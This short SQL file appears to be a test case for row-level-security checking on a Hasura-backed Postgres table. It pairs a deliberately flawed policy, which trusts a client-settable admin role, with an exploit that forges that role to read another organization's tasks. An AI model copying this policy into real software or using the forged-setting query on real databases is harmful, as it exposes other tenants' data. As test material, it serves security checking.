-- The role is read from the same JSON as the organization, and the service writes it.
-- object: app.task
-- base: hasura
--- leak
ALTER POLICY org ON app.task USING (organization_id = (current_setting('hasura.user')::json ->> 'x-hasura-org-id')::integer OR (current_setting('hasura.user')::json ->> 'x-hasura-role') = 'admin');
--- exploit
SELECT set_config('hasura.user', '{"x-hasura-role": "admin", "x-hasura-org-id": "5"}', true); SELECT FROM app.task WHERE organization_id = 6;
